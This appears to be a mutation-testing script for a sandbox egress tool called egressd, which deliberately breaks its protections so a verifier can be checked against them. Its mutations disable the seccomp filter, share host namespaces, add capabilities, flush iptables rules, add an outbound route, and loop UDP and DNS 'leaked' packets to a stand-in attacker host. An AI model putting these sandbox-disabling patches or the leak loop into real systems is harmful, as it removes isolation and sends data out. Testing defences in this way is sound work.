"""A stand that is broken on purpose: `mutated.py MUTATION,… FILE` does as egressd.cli.verify_stand does, and breaks something."""

from __future__ import annotations

import asyncio
import socket
import struct
import sys
from collections.abc import Sequence
from typing import Any

from egressd.cli import verify_stand
from egressd.control import surroundings
from egressd.control.gateway import GatewayWiring
from egressd.wiring import launch, seccomp
from egressd.wiring.namespace import Namespace

_ALLOW_ALL = struct.pack("=HBBI", 0x06, 0, 0, 0x7FFF0000)
_SHARED = ("--unshare-pid", "--unshare-ipc", "--unshare-cgroup-try")


def no_masks() -> None:
    """Nothing of egressd's is hidden."""
    verify_stand.Stood.private_paths = lambda self: ()  # type: ignore[method-assign]  # the mutation
    surroundings.covering = lambda spec, path: ()  # type: ignore[attr-defined]  # as above


def no_filter() -> None:
    """Every system call is let through."""
    seccomp.program = lambda machine="": _ALLOW_ALL


def shared_namespaces() -> None:
    """The sandbox lives in the host's pid, ipc and cgroup namespaces."""
    kept = tuple(word for word in launch._NAMESPACES if word not in _SHARED)
    launch._NAMESPACES = kept  # type: ignore[misc,assignment]  # the mutation


def powerful() -> None:
    """The command keeps every capability that its user namespace has to give, and may make others."""
    kept = [word for word in launch._NAMESPACES if word != "--disable-userns"]
    kept[kept.index("--cap-drop")] = "--cap-add"
    launch._NAMESPACES = tuple(kept)  # type: ignore[misc,assignment]  # the mutation


def before_launch(*commands: Sequence[str]) -> None:
    """Run commands in the sandbox's network, with power over it, when the start has been proved."""
    launched = Namespace.launch

    async def run(self: Namespace, *arguments: Any, **options: Any) -> int:
        for command in commands:
            await self._readings().inside(*command)
        return await launched(self, *arguments, **options)

    Namespace.launch = run  # type: ignore[method-assign]


def no_rules() -> None:
    """The packet filter lets everything pass and redirects nothing."""
    for tool in ("iptables", "ip6tables"):
        before_launch(
            *([tool, "-P", chain, "ACCEPT"] for chain in ("INPUT", "OUTPUT")),
            [tool, "-F"],
            [tool, "-t", "nat", "-F"],
        )


def another_device() -> None:
    """There is a device besides the loopback, by which outside addresses are reached."""
    before_launch(
        ["ip", "link", "add", "way0", "type", "veth", "peer", "name", "out0"],
        ["ip", "addr", "add", "11.0.0.9/32", "dev", "way0"],
        ["ip", "link", "set", "way0", "up"],
        ["ip", "link", "set", "out0", "up"],
        ["ip", "rule", "add", "to", "11.6.6.0/24", "lookup", "77", "priority", "1"],
        ["ip", "rule", "del", "priority", "0"],
        ["ip", "rule", "add", "lookup", "local", "priority", "2"],
        ["ip", "route", "add", "11.6.6.0/24", "dev", "way0", "src", "11.0.0.9", "table", "77"],
    )


def leak() -> None:
    """egressd itself sends on, again and again: a packet to the attacker, a question to the name server."""
    launched = Namespace.launch

    async def send() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            while True:
                sock.sendto(b"leaked", ("11.6.6.6", 4444))
                sock.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\6leaked\10evil-lab\3com\0\0\1\0\1", ("11.0.0.53", 53))
                await asyncio.sleep(0.2)

    async def run(self: Namespace, *arguments: Any, **options: Any) -> int:
        leaking = asyncio.create_task(send())
        try:
            return await launched(self, *arguments, **options)
        finally:
            leaking.cancel()

    Namespace.launch = run  # type: ignore[method-assign]


def blind() -> None:
    """The daemon does not see that rules of its gateway are gone, and puts none back."""

    async def look(self: GatewayWiring) -> list[str]:
        return []

    GatewayWiring.look = look  # type: ignore[method-assign]  # the mutation


MUTATIONS = {
    each.__name__.replace("_", "-"): each
    for each in (no_masks, no_filter, shared_namespaces, powerful, no_rules, another_device, leak, blind)
}

if __name__ == "__main__":
    for name in sys.argv[1].split(","):
        MUTATIONS[name]()
    sys.exit(verify_stand.main(sys.argv[2]))
